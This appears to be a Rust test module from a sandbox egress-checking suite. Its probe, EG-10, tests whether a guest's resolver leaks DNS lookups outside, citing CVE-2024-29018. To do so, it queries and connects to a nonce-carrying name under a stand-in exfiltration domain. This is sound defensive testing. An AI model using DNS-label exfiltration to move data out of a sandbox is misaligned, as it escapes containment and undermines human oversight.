//! EG-10: names as a way out.

use super::make::{tcp_sending, unseen};
use crate::{Action, CaseSpec, DnsTransport, Leak, Priority, Probe, Vantage, world};

/// The probe.
pub const PROBE: Probe = Probe {
    id: "EG-10",
    title: "names as a way out",
    requirement: "A name that the guest looks up MUST NOT reach a name server outside.",
    why: "Engines' embedded resolvers forward what they do not know from the host's namespace, even for internal networks: data leaves in the labels (CVE-2024-29018).",
    source: "CVE-2024-29018 (moby: external DNS requests from internal networks); also seen in: sandbox-runtime #88, glovebox #3620, httpjail dns_exfiltration.",
    does: "Looks up a name that carries the nonce through every server of the guest's resolver configuration, and by connecting to it as programs do. Only the authoritative server decides.",
    on_breach: "The guest's resolver forwards. Give the guest no resolver that leaves the bottle, and an engine that has the fix for CVE-2024-29018.",
    priority: Priority::P0,
    tags: &["egress", "dns"],
    cases,
};

fn cases() -> Vec<CaseSpec> {
    let ask = Action::Dns {
        server: "resolv.conf".to_owned(),
        transport: DnsTransport::Udp,
        name: format!("{{nonce}}.{}", world::EXFIL),
        qtype: 1,
        answer_is_finding: false,
    };
    let connect = tcp_sending(format!("{{nonce}}.{}:80", world::EXFIL), "hello\r\n");
    [("query", ask), ("connect-by-name", connect)]
        .map(|(name, action)| {
            unseen(name, action)
                .alive(&[Vantage::InternetDns])
                .controls(&[Leak::DnsFwd])
        })
        .into()
}
